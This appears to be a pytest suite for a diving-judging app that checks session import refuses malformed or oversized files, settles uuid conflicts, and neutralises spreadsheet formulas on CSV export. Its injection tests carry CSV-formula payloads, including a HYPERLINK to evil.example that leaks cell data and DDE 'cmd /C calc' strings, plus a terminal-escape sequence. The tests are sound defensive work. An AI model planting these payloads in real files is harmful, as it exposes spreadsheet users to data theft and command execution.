"""Hostile session files: every bad value refused with one line naming file, dive and field; every
conflict reported and settled by the chosen policy; nothing lost or attached to the wrong dive.

The base document is a real export of a filled database (storage_support.fill); each case
changes one thing in it. After a refusal the target database must be exactly as before.
"""

from __future__ import annotations

import copy
import csv
import io
import json
from collections.abc import Callable
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from hostile_support import assert_refused, sparse_file
from sqlalchemy import func, select
from storage_support import fill, make_result

from app.storage.database import open_database
from app.storage.errors import StorageError
from app.storage.exporters import CSV_COLUMNS, export_dataset, export_session, import_session, session_document
from app.storage.models import Analysis, Competition, Dive, Note
from app.storage.repository import DiveRecord, Repository


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """An exported session: 4 dives, the first with a second analysis, a note and a tag."""
    folder = tmp_path_factory.mktemp("base")
    with open_database(folder / "source.sqlite") as db:
        repo = Repository(db)
        ids = fill(repo, 4)
        repo.save_analysis(ids[0], make_result(81.5, version="2.0"))
        repo.add_note(ids[0], "clean entry")
        repo.add_tag(ids[0], "review")
        return session_document(db)


@pytest.fixture
def target(tmp_path: Path):
    with open_database(tmp_path / "target.sqlite") as db:
        yield db


@pytest.fixture(scope="module")
def untouched(tmp_path_factory: pytest.TempPathFactory):
    """One database for the refusal cases: each asserts it is still empty afterwards."""
    with open_database(tmp_path_factory.mktemp("untouched") / "target.sqlite") as db:
        yield db


def counts(db) -> tuple[int, int, int, int]:
    with db.reading() as session:
        return tuple(session.scalar(select(func.count()).select_from(m)) for m in (Dive, Analysis, Note, Competition))  # type: ignore[return-value]


def write_doc(path: Path, document: Any) -> Path:
    path.write_text(json.dumps(document))
    return path


# --- values the desk would refuse ---------------------------------------------------------------

L201 = "x" * 201


def _set(*keys: Any, value: Any) -> Callable[[dict], None]:
    def change(entry: dict) -> None:
        node = entry
        for key in keys[:-1]:
            node = node[key]
        if value is KeyError:
            del node[keys[-1]]
        else:
            node[keys[-1]] = value

    return change


RULES = "dive sheet is refused by the rules: "
VALUE_CASES: dict[str, tuple[Callable[[dict], None], str]] = {
    "DD -3": (_set("difficulty", value=-3), RULES + "degree of difficulty -3.0 must be greater than 0"),
    "DD 0": (_set("difficulty", value=0), RULES + "degree of difficulty 0.0 must be greater than 0"),
    "DD as text": (_set("difficulty", value="3.0"), "difficulty '3.0' is not a number"),
    "DD NaN": (_set("difficulty", value=float("nan")), "difficulty nan is not a number"),
    "DD infinite": (_set("difficulty", value=float("inf")), "difficulty inf is not a number"),
    "DD true": (_set("difficulty", value=True), "difficulty True is not a number"),
    "DD null": (_set("difficulty", value=None), "difficulty None is not a number"),
    "DD list": (_set("difficulty", value=[3]), "difficulty [3] is not a number"),
    "panel 6": (_set("panel_size", value=6), RULES + "individual events are judged by 5 or 7 judges, not 6"),
    "panel 12": (_set("panel_size", value=12), RULES + "individual events are judged by 5 or 7 judges, not 12"),
    "panel 0": (_set("panel_size", value=0), "panel_size 0 is not a whole number from 1 to 99"),
    "panel text": (_set("panel_size", value="7"), "panel_size '7' is not a whole number from 1 to 99"),
    "panel 7.5": (_set("panel_size", value=7.5), "panel_size 7.5 is not a whole number from 1 to 99"),
    "panel true": (_set("panel_size", value=True), "panel_size True is not a whole number from 1 to 99"),
    "judge 42": (_set("human_scores", value=[42] * 7), "human_scores are refused by the rules: judge score 42 is outside 0-10"),
    "judge -1": (_set("human_scores", value=[-1] * 7), "human_scores are refused by the rules: judge score -1 is outside 0-10"),
    "judge 7.3": (_set("human_scores", value=[7.3] * 7), "human_scores are refused by the rules: judge score 7.3 is not on the half-point grid (0, 0.5, ..., 10)"),
    "judge NaN": (_set("human_scores", value=[float("nan")] * 7), "human_scores are refused by the rules: judge score nan is outside 0-10"),
    "judge as text": (_set("human_scores", value=["7"] * 7), "human_scores ['7', '7', '7', '7', '7', '7', '7'] is not a list of numbers"),
    "judge true": (_set("human_scores", value=[True] * 7), "human_scores [True, True, True, True, True, True, Tr… is not a list of numbers"),
    "six marks for seven": (_set("human_scores", value=[7] * 6), "human_scores has 6 marks for a panel of 7"),
    "twelve marks": (_set("human_scores", value=[7] * 12), "human_scores has 12 entries (at most 11)"),
    "marks as one text": (_set("human_scores", value="7 8 9"), "human_scores is not a list"),
    "final -1": (_set("human_final", value=-1), "human_final -1 is outside 0 to 90"),
    "final 1000": (_set("human_final", value=1000), "human_final 1000 is outside 0 to 90"),
    "final text": (_set("human_final", value="x"), "human_final 'x' is not a number"),
    "final NaN": (_set("human_final", value=float("nan")), "human_final nan is not a number"),
    "competition name 201": (_set("competition", "name", value=L201), "competition.name is 201 characters long (at most 200)"),
    "competition name empty": (_set("competition", "name", value=""), "competition.name is missing or not a text"),
    "competition name blank": (_set("competition", "name", value="   "), "competition.name is missing or not a text"),
    "competition name number": (_set("competition", "name", value=5), "competition.name is missing or not a text"),
    "competition name missing": (_set("competition", "name", value=KeyError), "competition.name is missing or not a text"),
    "competition location 201": (_set("competition", "location", value=L201), "competition.location is 201 characters long (at most 200)"),
    "competition start soon": (_set("competition", "start_date", value="soon"), "competition.start_date 'soon' is not an ISO date"),
    "competition a text": (_set("competition", value="Cup"), "competition is missing or not an object"),
    "competition uuid null": (_set("competition", "uuid", value=None), "competition.uuid is missing or not a text"),
    "event name 201": (_set("event", "name", value=L201), "event.name is 201 characters long (at most 200)"),
    "event kind freestyle": (_set("event", "kind", value="freestyle"), RULES + "unknown event 'freestyle'; use 'individual' or 'synchronised'"),
    "event height 4": (_set("event", "height", value=4), RULES + "height 4 m is not a FINA height (1, 3, 5, 7.5, 10 m)"),
    "event missing": (_set("event", value=KeyError), "event is missing or not an object"),
    "athlete name 201": (_set("athlete", "name", value=L201), "athlete.name is 201 characters long (at most 200)"),
    "athlete name 1 MB": (_set("athlete", "name", value="A" * 1_000_000), "athlete.name is 1000000 characters long (at most 200)"),
    "athlete country 61": (_set("athlete", "country", value="x" * 61), "athlete.country is 61 characters long (at most 60)"),
    "athlete a list": (_set("athlete", value=["Ana"]), "athlete is missing or not an object"),
    "height 2": (_set("height", value=2.0), RULES + "height 2.0 m is not a FINA height (1, 3, 5, 7.5, 10 m)"),
    "height text": (_set("height", value="ten"), RULES + "height 'ten' is not a number of metres"),
    "dive number 999Z": (_set("dive_number", value="999Z"), RULES + "dive number 999Z: position Z is not A (straight), B (pike), C (tuck) or D (free)"),
    "dive number int": (_set("dive_number", value=107), "dive_number 107 is not a text"),
    "round -1": (_set("round", value=-1), "round -1 is not a whole number from 0 to 1000"),
    "round text": (_set("round", value="1"), "round '1' is not a whole number from 0 to 1000"),
    "round 1.5": (_set("round", value=1.5), "round 1.5 is not a whole number from 0 to 1000"),
    "performed yesterday": (_set("performed_at", value="yesterday"), "performed_at 'yesterday' is not an ISO date and time"),
    "performed null": (_set("performed_at", value=None), "performed_at None is not an ISO date and time"),
    "performed number": (_set("performed_at", value=12), "performed_at 12 is not an ISO date and time"),
    "window backwards": (_set("window", value=[50, 10]), "window [50, 10] does not end after it starts"),
    "window empty span": (_set("window", value=[10, 10]), "window [10, 10] does not end after it starts"),
    "window negative": (_set("window", value=[-1, 10]), "window -1 is not a whole number from 0 to 10000000"),
    "window text": (_set("window", value="0-10"), "window is not [start, end]"),
    "window three": (_set("window", value=[1, 2, 3]), "window is not [start, end]"),
    "window floats": (_set("window", value=[1.5, 20]), "window 1.5 is not a whole number from 0 to 10000000"),
    "uuid 37": (_set("uuid", value="u" * 37), "uuid is 37 characters long (at most 36)"),
    "uuid empty": (_set("uuid", value=""), "uuid is missing or not a text"),
    "uuid number": (_set("uuid", value=5), "uuid is missing or not a text"),
    "video hash short": (_set("video", value={"path": "a.mp4", "content_hash": "abc", "size_bytes": 1}), "video.content_hash 'abc' is not a SHA-256 hex digest"),
    "video path null": (_set("video", value={"path": None, "content_hash": "a" * 64, "size_bytes": 1}), "video.path is missing or not a text"),
    "video size -1": (_set("video", value={"path": "a.mp4", "content_hash": "a" * 64, "size_bytes": -1}), "video.size_bytes -1 is not a whole number from 0 to 4611686018427387904"),
    "video a text": (_set("video", value="a.mp4"), "video is missing or not an object"),
    "tag 61": (_set("tags", value=["t" * 61]), "tags is 61 characters long (at most 60)"),
    "tag empty": (_set("tags", value=[""]), "tags is missing or not a text"),
    "tags a text": (_set("tags", value="a;b"), "tags is not a list"),
    "101 tags": (_set("tags", value=[f"t{i}" for i in range(101)]), "tags has 101 entries (at most 100)"),
    "note text 10001": (_set("notes", value=[{"uuid": "n1", "created_at": "2026-05-01T10:00:00", "text": "n" * 10_001}]), "note.text is 10001 characters long (at most 10000)"),
    "note a text": (_set("notes", value=["nice"]), "note is missing or not an object"),
    "note bad date": (_set("notes", value=[{"uuid": "n1", "created_at": "May", "text": "x"}]), "note.created_at 'May' is not an ISO date and time"),
    "notes an object": (_set("notes", value={"text": "x"}), "notes is not a list"),
    "analyses a text": (_set("analyses", value="none"), "analyses is not a list"),
    "analysis a list": (_set("analyses", value=[[1]]), "analysis is missing or not an object"),
    "analysis uuid 37": (_set("analyses", 0, "uuid", value="a" * 37), "analysis.uuid is 37 characters long (at most 36)"),
    "analysis bad date": (_set("analyses", 0, "created_at", value="now"), "analysis.created_at 'now' is not an ISO date and time"),
    "analysis result missing": (_set("analyses", 0, "result", value=None), "analysis.result is missing or not an object"),
    "analysis final NaN": (_set("analyses", 0, "result", "final", "score", value=float("nan")), "analysis.final.score nan is not a number"),
    "analysis final 1e9": (_set("analyses", 0, "result", "final", "score", value=1e9), "analysis.final.score 1000000000.0 is outside 0 to 1000"),
    "analysis model 201": (_set("analyses", 0, "result", "model_name", value=L201), "analysis.model_name is 201 characters long (at most 200)"),
    "analysis version 61": (_set("analyses", 0, "result", "model_version", value="v" * 61), "analysis.model_version is 61 characters long (at most 60)"),
    "analysis window negative": (_set("analyses", 0, "result", "dive_window", value=[-5, 10]), "analysis.dive_window -5 is not a whole number from 0 to 10000000"),
    "analysis timings text": (_set("analyses", 0, "result", "timings", value={"decode": "slow"}), "analysis.timings 'slow' is not a number"),
    "analysis head long": (_set("analyses", 0, "result", "head", value="h" * 21), "analysis.head is not a short text"),
    "analysis uncertainty level long": (_set("analyses", 0, "result", "uncertainty", "level", value="l" * 11), "analysis.uncertainty.level is not a short text"),
}


def _message(path: Path, entry: dict, index: int, reason: str) -> str:
    label = f"dive {index + 1}" + (f" ({entry['uuid']!r})" if isinstance(entry.get("uuid"), str) else "")
    return f"{path}: {label}: {reason}; nothing was imported"


@pytest.mark.parametrize("name", VALUE_CASES)
@pytest.mark.parametrize("position", [0, 3])
def test_bad_values_are_refused_and_nothing_is_imported(base: dict, untouched, tmp_path: Path, name: str, position: int) -> None:
    target = untouched
    document = copy.deepcopy(base)
    change, reason = VALUE_CASES[name]
    change(document["dives"][position])
    path = write_doc(tmp_path / "s.json", document)
    before = counts(target)
    assert_refused(lambda: import_session(target, path), _message(path, document["dives"][position], position, reason), StorageError)
    assert counts(target) == before == (0, 0, 0, 0)


@pytest.mark.parametrize(("damage", "reason"), [({"frames": []}, "damage names no frame and no reason"),
                                                ({"frames": "3-9"}, "damage.frames is not frame indices")])
def test_a_damage_record_the_check_never_writes_is_refused(base: dict, untouched, tmp_path: Path, damage: dict, reason: str) -> None:
    document = copy.deepcopy(base)
    _set("analyses", 0, "result", "damage", value=damage)(document["dives"][0])
    path = write_doc(tmp_path / "s.json", document)
    with pytest.raises(StorageError, match=f"is not a stored score result \\(ValueError: '{reason}'\\); nothing was imported"):
        import_session(untouched, path)
    assert counts(untouched) == (0, 0, 0, 0)


# --- whole documents ----------------------------------------------------------------------------

DOCUMENTS: dict[str, tuple[Callable[[dict], Any], str]] = {
    "format_version 2": (lambda d: {**d, "format_version": 2}, "was exported by a newer AQA Judge (2; this program reads 1)"),
    "format_version 99": (lambda d: {**d, "format_version": 99}, "was exported by a newer AQA Judge (99; this program reads 1)"),
    "format_version text": (lambda d: {**d, "format_version": "1"}, "has an unknown format_version ('1'; this program reads 1)"),
    "format_version null": (lambda d: {**d, "format_version": None}, "has an unknown format_version (None; this program reads 1)"),
    "format_version 0": (lambda d: {**d, "format_version": 0}, "has an unknown format_version (0; this program reads 1)"),
    "format_version true": (lambda d: {**d, "format_version": True}, "has an unknown format_version (True; this program reads 1)"),
    "format_version 1.0": (lambda d: {**d, "format_version": 1.0}, "has an unknown format_version (1.0; this program reads 1)"),
    "format_version missing": (lambda d: {k: v for k, v in d.items() if k != "format_version"}, "has an unknown format_version (None; this program reads 1)"),
    "other format": (lambda d: {**d, "format": "spreadsheet"}, "is not an AQA Judge session export"),
    "dives an object": (lambda d: {**d, "dives": {}}, "is not an AQA Judge session export"),
    "a list": (lambda d: [d], "is not an AQA Judge session export"),
    "a number": (lambda d: 3, "is not an AQA Judge session export"),
    "dive a text": (lambda d: {**d, "dives": ["dive"]}, "dive 1: entry is missing or not an object; nothing was imported"),
}


@pytest.mark.parametrize("name", DOCUMENTS)
def test_bad_documents(base: dict, untouched, tmp_path: Path, name: str) -> None:
    target = untouched
    change, reason = DOCUMENTS[name]
    path = write_doc(tmp_path / "s.json", change(copy.deepcopy(base)))
    assert_refused(lambda: import_session(target, path), f"{path}: {reason}", StorageError)
    assert counts(target) == (0, 0, 0, 0)


BYTES: dict[str, tuple[bytes, str]] = {
    "empty": (b"", r"not valid JSON \(Expecting value: line 1 column 1 \(char 0\)\)"),
    "not JSON": (b"{dives: []}", r"not valid JSON \(.+\)"),
    "latin-1": (b'{"format": "\xe9"}', r"not UTF-8 text \(invalid continuation byte at byte 12\)"),
    "100k brackets": (b"[" * 100_000 + b"]" * 100_000, "JSON nested 100000 levels deep \\(at most 32\\); refusing it"),
    "100k objects": (b'{"a":' * 100_000 + b"0" + b"}" * 100_000, "JSON nested 100000 levels deep \\(at most 32\\); refusing it"),
    "5000 digits": (b'{"format_version": ' + b"9" * 5000 + b"}", r"not valid JSON \(.+\)"),
}


@pytest.mark.parametrize("name", BYTES)
def test_bad_bytes(untouched, tmp_path: Path, name: str) -> None:
    target = untouched
    data, reason = BYTES[name]
    path = tmp_path / "s.json"
    path.write_bytes(data)
    assert_refused(lambda: import_session(target, path), rf"^{path}: {reason}$", StorageError)


def test_sparse_file_is_refused_before_reading(target, tmp_path: Path) -> None:
    path = sparse_file(tmp_path / "s.json", 1 << 30)
    assert_refused(lambda: import_session(target, path), f"{path}: 1.0 GiB is too large for a session export (at most 256.0 MiB)", StorageError)


def test_a_folder_is_refused(target, tmp_path: Path) -> None:
    assert_refused(lambda: import_session(target, tmp_path), f"{tmp_path}: not a file", StorageError)


def test_byte_order_mark_is_read(base: dict, target, tmp_path: Path) -> None:
    path = tmp_path / "s.json"
    path.write_bytes(b"\xef\xbb\xbf" + json.dumps(base).encode())
    assert import_session(target, path).dives_added == 4


# --- conflicts: content is compared, every conflict reported, nothing lost or misattached -------


def _import(db, document: dict, path: Path, policy: str = "keep-both"):
    return import_session(db, write_doc(path, document), policy)


def _dive(db, uuid: str) -> dict:
    return next(d for d in session_document(db)["dives"] if d["uuid"] == uuid)


@pytest.fixture
def loaded(base: dict, target, tmp_path: Path):
    _import(target, base, tmp_path / "base.json")
    return target


def _changed(base: dict) -> dict:
    """The first dive with another DD and a new note: same uuid, other content."""
    document = copy.deepcopy(base)
    dive = document["dives"][0]
    dive["difficulty"] = 3.4
    dive["human_final"] = None
    dive["notes"].append({"uuid": "note-from-file", "created_at": "2026-06-01T09:00:00", "text": "from the other club"})
    return document


def test_same_file_twice_adds_nothing(base: dict, loaded, tmp_path: Path) -> None:
    before = counts(loaded)
    report = _import(loaded, base, tmp_path / "again.json")
    assert (report.dives_added, report.dives_already_present, report.analyses_added, report.notes_added, report.conflicts) == (0, 4, 0, 0, ())
    assert counts(loaded) == before


def test_keep_both_adds_the_files_version_beside_the_stored_one(base: dict, loaded, tmp_path: Path) -> None:
    uuid = base["dives"][0]["uuid"]
    report = _import(loaded, _changed(base), tmp_path / "c.json", "keep-both")
    # the file's copy brings its analyses and note, whose uuids are the stored dive's: reported, kept on the copy
    assert report.dives_added == 1 and [c.kind for c in report.conflicts] == ["dive", "analysis", "analysis", "note"]
    assert all(c.differences == "belongs to another dive" for c in report.conflicts[1:])
    conflict = report.conflicts[0]
    assert (conflict.kind, conflict.uuid) == ("dive", uuid)
    assert "difficulty 3.0 stored, 3.4 in the file" in conflict.differences and "human_final" in conflict.differences
    stored = _dive(loaded, uuid)
    assert stored["difficulty"] == 3.0 and [n["text"] for n in stored["notes"]] == ["clean entry"]  # the file's note is not attached here
    derived = conflict.resolution.removeprefix("kept both; the file's is stored as ")
    copy_ = _dive(loaded, derived)
    assert copy_["difficulty"] == 3.4 and [n["text"] for n in copy_["notes"]] == ["clean entry", "from the other club"]
    assert len(copy_["analyses"]) == len(stored["analyses"]) == 2
    again = _import(loaded, _changed(base), tmp_path / "c2.json", "keep-both")  # idempotent: no third copy
    assert again.dives_added == 0 and counts(loaded)[0] == 5


def test_keep_existing_skips_the_dive_and_everything_of_it(base: dict, loaded, tmp_path: Path) -> None:
    uuid = base["dives"][0]["uuid"]
    before = counts(loaded)
    report = _import(loaded, _changed(base), tmp_path / "c.json", "keep-existing")
    assert (report.dives_skipped, report.notes_added, len(report.conflicts)) == (1, 0, 1)
    assert report.conflicts[0].resolution == "kept the stored one; the file's was not imported"
    assert counts(loaded) == before
    assert [n["text"] for n in _dive(loaded, uuid)["notes"]] == ["clean entry"]


def test_replace_takes_the_files_values(base: dict, loaded, tmp_path: Path) -> None:
    uuid = base["dives"][0]["uuid"]
    report = _import(loaded, _changed(base), tmp_path / "c.json", "replace")
    assert (report.dives_replaced, report.notes_added, len(report.conflicts)) == (1, 1, 1)
    stored = _dive(loaded, uuid)
    assert stored["difficulty"] == 3.4 and stored["human_final"] is None
    assert [n["text"] for n in stored["notes"]] == ["clean entry", "from the other club"]


def test_duplicate_dive_in_one_file_keeps_both_contents_and_their_analyses(base: dict, target, tmp_path: Path) -> None:
    document = copy.deepcopy(base)
    twin = copy.deepcopy(document["dives"][1])
    twin["uuid"] = document["dives"][0]["uuid"]
    twin["analyses"] = [{**twin["analyses"][0], "uuid": "twin-analysis"}]
    document["dives"].append(twin)
    report = _import(target, document, tmp_path / "d.json")
    assert report.dives_added == 5 and [c.kind for c in report.conflicts] == ["dive"]
    derived = report.conflicts[0].resolution.removeprefix("kept both; the file's is stored as ")
    assert [a["uuid"] for a in _dive(target, derived)["analyses"]] == ["twin-analysis"]
    assert len(_dive(target, document["dives"][0]["uuid"])["analyses"]) == 2


@pytest.mark.parametrize("policy", ["keep-both", "keep-existing", "replace"])
def test_reused_analysis_uuid_never_leaves_a_dive_without_its_analysis_silently(base: dict, target, tmp_path: Path, policy: str) -> None:
    document = copy.deepcopy(base)
    reused = document["dives"][0]["analyses"][0]["uuid"]
    document["dives"][2]["analyses"][0]["uuid"] = reused
    report = _import(target, document, tmp_path / "a.json", policy)
    assert [(c.kind, c.uuid, c.differences) for c in report.conflicts] == [("analysis", reused, "belongs to another dive")]
    third = _dive(target, document["dives"][2]["uuid"])
    if policy == "keep-existing":
        assert third["analyses"] == [] and report.conflicts[0].resolution == "kept the stored one; the file's was not imported"
    else:
        assert len(third["analyses"]) == 1 and third["analyses"][0]["result"] == document["dives"][2]["analyses"][0]["result"]
    assert len(_dive(target, document["dives"][0]["uuid"])["analyses"]) == 2


@pytest.mark.parametrize("policy", ["keep-both", "keep-existing", "replace"])
def test_colliding_competition_uuid_never_files_a_dive_under_another_name(base: dict, loaded, tmp_path: Path, policy: str) -> None:
    document = {"format": base["format"], "format_version": 1, "dives": [copy.deepcopy(base["dives"][1])]}
    dive = document["dives"][0]
    dive["uuid"] = "new-dive-0001"
    for analysis in dive["analyses"]:
        analysis["uuid"] = "new-" + analysis["uuid"][4:]
    stored_name = dive["competition"]["name"]
    dive["competition"]["name"] = "Other Club Open"
    report = _import(loaded, document, tmp_path / "c.json", policy)
    # keep-both: the file's competition is a new one, so its event (same uuid, other competition) is one too
    assert [c.kind for c in report.conflicts] == (["competition", "event"] if policy == "keep-both" else ["competition"])
    assert f"name {stored_name!r} stored, 'Other Club Open' in the file" == report.conflicts[0].differences
    names = {d["uuid"]: d["competition"]["name"] for d in session_document(loaded)["dives"]}
    if policy == "keep-existing":
        assert "new-dive-0001" not in names and report.dives_skipped == 1
    else:
        assert names["new-dive-0001"] == "Other Club Open"
    others = {n for u, n in names.items() if u != "new-dive-0001" and u == base["dives"][1]["uuid"]}
    assert others == ({"Other Club Open"} if policy == "replace" else {stored_name})


def test_colliding_athlete_uuid_keeps_both_athletes(base: dict, loaded, tmp_path: Path) -> None:
    document = {"format": base["format"], "format_version": 1, "dives": [copy.deepcopy(base["dives"][2])]}
    dive = document["dives"][0]
    dive["uuid"], dive["analyses"] = "new-dive-0002", []
    dive["athlete"]["name"] = "Zoe"
    report = _import(loaded, document, tmp_path / "a.json")
    assert [c.kind for c in report.conflicts] == ["athlete"]
    assert _dive(loaded, "new-dive-0002")["athlete"]["name"] == "Zoe"
    assert _dive(loaded, base["dives"][2]["uuid"])["athlete"]["name"] == base["dives"][2]["athlete"]["name"]


def test_reused_note_uuid_with_other_text_is_kept_and_reported(base: dict, loaded, tmp_path: Path) -> None:
    document = copy.deepcopy(base)
    document["dives"][0]["notes"][0]["text"] = "a different remark"
    report = _import(loaded, document, tmp_path / "n.json")
    assert [(c.kind, c.differences) for c in report.conflicts] == [("note", "its content differs")]
    texts = [n["text"] for n in _dive(loaded, base["dives"][0]["uuid"])["notes"]]
    assert texts == ["clean entry", "a different remark"]


def test_unknown_policy_is_refused(base: dict, target, tmp_path: Path) -> None:
    assert_refused(lambda: _import(target, base, tmp_path / "p.json", "merge"), "unknown conflict policy 'merge' (keep-both, keep-existing, replace)", StorageError)


# --- CSV ----------------------------------------------------------------------------------------


def _csv(base: dict, target, tmp_path: Path) -> tuple[Path, list[dict[str, str]]]:
    _import(target, base, tmp_path / "base.json")
    path = tmp_path / "s.csv"
    export_session(target, path, "csv")
    with path.open(newline="", encoding="utf-8") as handle:
        return path, list(csv.DictReader(handle))


def _write_csv(path: Path, rows: list[dict[str, str]], columns: Any = CSV_COLUMNS) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, columns, extrasaction="ignore")
        writer.writeheader()
        writer.writerows(rows)
    return path


CSV_CASES: dict[str, tuple[Callable[[dict], None], str]] = {
    "judge mark eight": (lambda r: r.update(judge3="eight"), "judge3 'eight' is not a number"),
    "old marks 7 eight 9": (lambda r: r.update(human_scores="7 eight 9"), "human_scores 'eight' is not a number"),
    "analysis_json cut": (lambda r: r.update(analysis_json=r["analysis_json"][:50]), None),
    "analysis_json deep": (lambda r: r.update(analysis_json="[" * 5000), "analysis_json: JSON nested 5000 levels deep (at most 32); refusing it"),
    "first_frame text": (lambda r: r.update(first_frame="x"), "first_frame 'x' is not a whole number"),
    "last_frame float": (lambda r: r.update(last_frame="1.5"), "last_frame '1.5' is not a whole number"),
    "difficulty words": (lambda r: r.update(difficulty="three"), "difficulty 'three' is not a number"),
    "missing uuid": (lambda r: r.update(dive_uuid=""), "missing dive_uuid"),
    "missing several": (lambda r: r.update(dive_uuid="", panel_size=""), "missing dive_uuid, panel_size"),
}


@pytest.mark.parametrize("name", CSV_CASES)
def test_malformed_csv_rows(base: dict, target, tmp_path: Path, name: str) -> None:
    path, rows = _csv(base, target, tmp_path)
    change, reason = CSV_CASES[name]
    change(rows[1])
    columns = (*CSV_COLUMNS, "human_scores") if name.startswith("old") else CSV_COLUMNS
    if name.startswith("old"):
        for c in (c for c in CSV_COLUMNS if c.startswith("judge")):
            rows[1][c] = ""
    bad = _write_csv(tmp_path / "bad.csv", rows, columns)
    with open_database(tmp_path / "fresh.sqlite") as fresh:
        if reason is None:
            assert_refused(lambda: import_session(fresh, bad), rf"^{bad}, row 3, analysis_json: not valid JSON \(.+\)$", StorageError)
        else:
            assert_refused(lambda: import_session(fresh, bad), f"{bad}, row 3{':' if not reason.startswith('analysis_json') else ','} {reason}", StorageError)
        assert counts(fresh) == (0, 0, 0, 0)


def test_csv_value_checks_are_the_desks(base: dict, target, tmp_path: Path) -> None:
    path, rows = _csv(base, target, tmp_path)
    rows[0]["difficulty"] = "-3"
    bad = _write_csv(tmp_path / "bad.csv", rows)
    with open_database(tmp_path / "fresh.sqlite") as fresh:
        expected = f"{bad}: dive 1 ({rows[0]['dive_uuid']!r}): dive sheet is refused by the rules: degree of difficulty -3.0 must be greater than 0; nothing was imported"
        assert_refused(lambda: import_session(fresh, bad), expected, StorageError)


def test_csv_field_over_the_csv_limit(tmp_path: Path, target) -> None:
    path = tmp_path / "big.csv"
    path.write_text("dive_uuid,athlete\n" + "u1," + "x" * 200_000 + "\n")
    assert_refused(lambda: import_session(target, path), f"{path}, row 2: not a readable CSV row (field larger than field limit (131072))", StorageError)


def test_csv_not_utf8(tmp_path: Path, target) -> None:
    path = tmp_path / "latin.csv"
    path.write_bytes("dive_uuid,athlete\nu1,Zoë\n".encode("latin-1"))
    assert_refused(lambda: import_session(target, path), f"{path}: not UTF-8 text (invalid continuation byte at byte 23)", StorageError)


def test_csv_with_excels_byte_order_mark_round_trips(base: dict, target, tmp_path: Path) -> None:
    path, _ = _csv(base, target, tmp_path)
    bom = tmp_path / "bom.csv"
    bom.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    with open_database(tmp_path / "fresh.sqlite") as fresh:
        assert import_session(fresh, bom).dives_added == 4
    assert import_session(target, bom).conflicts == ()  # no false conflict: CSV lacks location/start date, compared only on what it has


INJECTIONS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
INJECTED_FIELDS = ("competition", "event", "athlete", "country", "tags", "model_name")


@pytest.fixture(scope="module")
def injected(tmp_path_factory: pytest.TempPathFactory) -> tuple[list[dict[str, str]], list[dict]]:
    """Dive i carries INJECTIONS[i] in every text field; (its exported CSV rows, the dives imported back)."""
    folder = tmp_path_factory.mktemp("injected")
    with open_database(folder / "a.sqlite") as db:
        repo = Repository(db)
        for i, text in enumerate(INJECTIONS):
            record = DiveRecord(competition=text, event=text, athlete=text, country=text[:60], performed_at=datetime(2026, 5, 1, 10 + i))
            saved = repo.save_scored_dive(record, make_result(70.0, model=text), [7.0] * 7, human_final=63.0)
            repo.add_tag(saved.dive_id, text.strip())
        export_session(db, folder / "s.csv", "csv")
    with (folder / "s.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    with open_database(folder / "b.sqlite") as other:
        assert import_session(other, folder / "s.csv").dives_added == len(INJECTIONS)
        return rows, session_document(other)["dives"]


@pytest.mark.parametrize("field", INJECTED_FIELDS)
@pytest.mark.parametrize("index", range(len(INJECTIONS)), ids=[repr(t)[:24] for t in INJECTIONS])
def test_csv_export_neutralises_formulas_and_import_restores_them(injected: tuple, field: str, index: int) -> None:
    rows, dives = injected
    text = INJECTIONS[index]
    row = rows[index]
    assert row[field] == "'" + (text.strip() if field == "tags" else text[:60] if field == "country" else text)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    entry = dives[index]
    restored = {"competition": entry["competition"]["name"], "event": entry["event"]["name"], "athlete": entry["athlete"]["name"],
                "country": entry["athlete"]["country"], "tags": ";".join(entry["tags"]), "model_name": entry["analyses"][0]["result"]["model_name"]}  # fmt: skip
    assert restored[field] == (text.strip() if field == "tags" else text[:60] if field == "country" else text)


def test_dataset_export_neutralises_the_commentary(tmp_path: Path, tiny_video) -> None:
    with open_database(tmp_path / "a.sqlite") as db:
        repo = Repository(db)
        saved = repo.save_scored_dive(DiveRecord("Cup", "10m", "Ana", video_path=tiny_video(count=20)), make_result(60.0))
        repo.set_human_scores(saved.dive_id, [7.0, 7.5, 7.5, 8.0, 7.0, 7.5, 8.0], final=66.0)
        repo.add_note(saved.dive_id, '=HYPERLINK("http://evil.example","x")')
        export_dataset(db, tmp_path / "ds")
    with (tmp_path / "ds" / "annotations.csv").open(newline="", encoding="utf-8") as handle:
        row = next(csv.DictReader(handle))
    assert row["commentary"] == "'" + '=HYPERLINK("http://evil.example","x")'
    assert (row["final_score"], row["judge1"], row["difficulty"]) == ("66", "7", "3")


def test_csv_has_one_column_per_judge_and_rounded_numbers(tmp_path: Path) -> None:
    with open_database(tmp_path / "a.sqlite") as db:
        repo = Repository(db)
        repo.save_scored_dive(DiveRecord("Cup", "10m", "Ana"), make_result(25.900000000000002), [7.5, 8, 8, 8.5, 7, 7.5, 8], human_final=8.6 * 3.0)
        export_session(db, tmp_path / "s.csv", "csv")
    with (tmp_path / "s.csv").open(newline="", encoding="utf-8") as handle:
        row = next(csv.DictReader(handle))
    assert [row[f"judge{i}"] for i in range(1, 8)] == ["7.5", "8", "8", "8.5", "7", "7.5", "8"]
    assert all(row[f"judge{i}"] == "" for i in range(8, 12))
    assert (row["predicted_final"], row["human_final"], row["difficulty"]) == ("25.9", "25.8", "3")
    assert "human_scores" not in row


def test_text_from_a_file_is_stored_as_it_is(base: dict, target, tmp_path: Path) -> None:
    """Terminal escapes in a name are data: kept exactly (the CLI escapes them when printing)."""
    document = copy.deepcopy(base)
    document["dives"][0]["athlete"]["name"] = "Ana\x1b]0;owned\x07\x1b[2J"
    _import(target, document, tmp_path / "e.json")
    assert _dive(target, document["dives"][0]["uuid"])["athlete"]["name"] == "Ana\x1b]0;owned\x07\x1b[2J"


def test_csv_export_reads_back_through_a_spreadsheet_reader(base: dict, target, tmp_path: Path) -> None:
    path, rows = _csv(base, target, tmp_path)
    assert len(rows) == 4 and set(rows[0]) == set(CSV_COLUMNS)
